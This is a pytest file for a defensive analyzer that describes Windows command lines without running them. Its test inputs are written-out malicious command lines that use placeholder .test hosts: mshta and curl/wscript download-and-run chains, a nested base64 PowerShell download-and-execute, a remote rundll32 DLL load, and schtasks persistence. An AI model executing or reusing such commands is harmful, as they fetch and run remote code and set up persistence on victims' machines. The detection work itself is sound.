"""What a command line would do, told without running it."""

from __future__ import annotations

import base64

import pytest

from analyzers.lib import commandline
from analyzers.lib.commandline import read, sentence


@pytest.mark.parametrize(
    ("text", "programs"),
    [
        (r"C:\Windows\System32\cmd.exe /c whoami", ("cmd",)),
        ("%comspec% /c start /min mshta http://a.test/b.hta", ("cmd", "mshta")),
        ("cmd.exe /c p^o^w^ers^hell -c x", ("cmd", "powershell")),
        ("cmd /c curl -o %temp%\\a.js http://b.test/a.js && wscript %temp%\\a.js",
         ("cmd", "curl", "wscript")),
        (r"C:\Program Files\at work\tool.exe --reg a", ()),
        ("", ()),
    ],
)  # fmt: skip
def test_programs_are_named_where_they_are_called(text: str, programs: tuple[str, ...]) -> None:
    assert read(text).programs == programs


def test_layers_are_followed_a_few_deep() -> None:
    inner = "iwr https://a.test/b -OutFile c.exe; Start-Process c.exe"
    for _ in range(2):
        code = base64.b64encode(inner.encode("utf-16-le")).decode()
        inner = f"powershell -e {code}"
    found = read(inner)
    assert len(found.layers) == 2
    assert found.addresses == ("https://a.test/b",)
    assert found.fetches
    assert found.executes


def test_shares_and_addresses_are_told_apart_from_paths() -> None:
    assert read(r"rundll32 \\files.test@80\x\a.dll,Go").addresses == (r"\\files.test@80\x\a.dll",)
    assert read(r"C:\a\b.exe C:\\c\\d").addresses == ()


def test_the_sentence_says_no_more_than_the_command() -> None:
    assert sentence(read(r"C:\a\b.exe")) == "Opening it starts a program"
    told = sentence(read("mshta http://a.test/b"), "A value")
    assert told == "A value runs mshta, reaches for hxxp://a[.]test/b"
    stays = read('schtasks /create /tn a /tr "cmd /c b"')
    assert sentence(stays).endswith("and makes it start again later")


def test_what_is_no_text_is_not_decoded() -> None:
    assert commandline.decoded("AAECAwQFBgcICQoLDA0ODw==") == ""
    assert commandline.decoded("%%%") == ""
